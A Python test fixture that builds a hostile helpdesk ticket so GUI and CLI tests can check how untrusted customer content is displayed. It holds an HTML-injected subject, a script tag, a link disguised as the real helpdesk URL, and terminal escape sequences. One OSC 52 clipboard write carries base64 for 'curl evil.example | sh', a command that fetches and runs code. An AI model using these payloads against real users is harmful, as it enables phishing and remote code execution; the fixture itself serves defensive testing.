"""A replica holding one hostile visit, made without a helpdesk (for GUI and CLI tests).

What a customer's mail can carry, as the sync stores it: markup in the subject,
terminal escape sequences and a deceptive link in the conversation, and files
whose names hide what they are.  ``with_file`` puts a file "downloaded" on disk.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from pathlib import Path

import sqlite_utils

from sync.connectors.base import RemoteTicket, RemoteTransaction
from sync.store import open_database, transaction
from sync.store import tickets as ticket_store

VISIT_ID = 9001
_DISK_UNSAFE = re.compile(r"[^\w.\- ]+")
SUBJECT = "Printer <b>offline</b> & <a href='https://evil.example'>click</a>"
ESCAPES = (
    "\x1b]0;FieldDesk: session expired\x07"  # the terminal window's title
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # write the clipboard (OSC 52)
    "All jobs printed fine.\rPLEASE CALL +44 20 7946 0999\x1b[2K"  # overwrite the line
    "\x9b31m"  # a C1 control: CSI in one byte
)
HELPDESK = "https://rt.example.com"
DECEPTIVE = (
    f'<p>See <a href="https://rt-login.evil.example/x">{HELPDESK}/Ticket/Display.html?id=42</a>'
    f' or <a href="{HELPDESK}/Ticket/Display.html?id=42">the ticket</a>.</p>'
)


@dataclass
class HostileVisit:
    db: sqlite_utils.Database
    files_dir: Path
    next_id: int = 7000
    keys: dict[str, int] = field(default_factory=dict)  # file name: local key

    def with_file(self, name: str, data: bytes = b"%PDF-1.4 sample\n") -> int:
        """A file of the visit, from the helpdesk, already on this laptop; its key."""
        self.next_id += 1
        # Stored as the sync stores downloads: id, then the name made safe for the disk.
        path = self.files_dir / f"{self.next_id}-{_DISK_UNSAFE.sub('_', name)}"
        path.write_bytes(data)
        with transaction(self.db):
            self.db.execute(
                "INSERT INTO attachments (id, ticket_id, transaction_id, filename, content_type,"
                " size, path) VALUES (?, ?, ?, ?, ?, ?, ?)",
                [self.next_id, VISIT_ID, 1, name, "application/octet-stream", len(data), str(path)],
            )
        key: int = self.db.execute(
            "SELECT rowid FROM attachments WHERE id = ?", [self.next_id]
        ).fetchone()[0]
        self.keys[name] = key
        return key


def hostile_replica(database_path: Path, files_dir: Path) -> HostileVisit:
    db = open_database(database_path)
    files_dir.mkdir(parents=True, exist_ok=True)
    fields: dict[str, str | None] = {
        "subject": SUBJECT,
        "status": "open",
        "priority": "50",
        "owner": "alice",
        "due": None,
        "site": "Quayside <i>Print</i> & Copy",
        "address": "2 Camber Quay\nPortsmouth",
        "contact": "Tom <script>x</script> Reyes, +44 23 9200 8810",
        "visit_start": "2026-11-23T10:00:00Z",
        "visit_end": "2026-11-23T11:00:00Z",
        "parts_used": None,
    }
    created = "2026-11-20T09:00:00Z"
    with transaction(db):
        ticket_store.apply_remote_ticket(
            db, RemoteTicket(VISIT_ID, "1", created, created, "3", fields, [], 0)
        )
        ticket_store.apply_remote_history(
            db,
            VISIT_ID,
            [
                RemoteTransaction(
                    1,
                    VISIT_ID,
                    "Create",
                    created,
                    "customer",
                    body=DECEPTIVE,
                    body_type="text/html",
                ),
                RemoteTransaction(
                    2,
                    VISIT_ID,
                    "Correspond",
                    created,
                    "customer",
                    body=ESCAPES,
                    body_type="text/plain",
                ),
            ],
        )
    return HostileVisit(db, files_dir)
